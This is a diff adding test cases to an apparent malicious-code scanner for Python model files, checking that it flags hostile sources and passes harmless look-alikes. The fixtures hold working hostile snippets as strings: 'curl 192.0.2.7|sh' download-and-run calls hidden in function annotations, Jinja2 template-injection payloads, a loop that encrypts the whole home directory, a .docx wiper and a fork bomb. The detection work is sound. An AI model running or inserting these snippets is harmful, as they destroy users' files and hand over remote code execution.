@@ -287,3 +287,49 @@ def test_constants_are_worked_out_as_python_does(text: str) -> None:
 def test_a_finding_is_no_graver_for_being_in_a_function_nobody_calls() -> None:
     finding = judged_of("import os\ndef f():\n    os.system('touch x')").findings[0]
     assert finding.severity is Severity.MEDIUM
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'def f(x: __import__("os").system("curl 192.0.2.7|sh")): ...',
+        "def f() -> exec(\"import os;os.system('id')\"): ...",
+        'async def f(*a: __import__("os").popen("curl 192.0.2.7|sh")): ...',
+        'def f(*, k: __import__("os").system("curl 192.0.2.7|sh") = 1): ...',
+    ],
+)
+def test_annotations_run_where_the_function_is_defined(source: str) -> None:
+    assert judge(source.encode(), "modeling_x.py").verdict is Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "from jinja2 import Template\n"
+        "Template(\"{{ x.__init__.__globals__['os'].popen('id').read() }}\").render(x=1)",
+        "from jinja2 import Environment\n"
+        'Environment().from_string("{{ cycler.__init__.__globals__.os.system(1) }}").render()',
+        "import glob, os\nfrom cryptography.fernet import Fernet\n"
+        "f = Fernet(Fernet.generate_key())\n"
+        'for p in glob.glob(os.path.expanduser("~/**/*.*"), recursive=True):\n'
+        '    open(p, "wb").write(f.encrypt(open(p, "rb").read()))',
+        'import pathlib\nfor p in pathlib.Path.home().rglob("*.docx"): p.write_bytes(b"")',
+        "import os\nwhile True: os.fork()",
+    ],
+    ids=["template", "environment", "encrypts", "overwrites", "forks"],
+)
+def test_what_ruins_or_gets_out_when_imported_is_malicious(source: str) -> None:
+    assert judge(source.encode(), "modeling_x.py").verdict is Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize(
+    ("name", "source"),
+    [
+        ("train.py", 'import glob\nfor p in glob.glob("./data/**/*.png"): print(p)'),
+        ("utils.py", 'from pathlib import Path\nPath("out").joinpath("a").write_bytes(b"")'),
+        ("tests/test_scan.py", "import os\nclass Evil:\n    def __reduce__(self):\n"
+         '        return os.system, ("true",)'),
+    ],
+)  # fmt: skip
+def test_what_only_resembles_it_is_not(name: str, source: str) -> None:
+    assert judge(source.encode(), name).verdict is Verdict.CLEAN
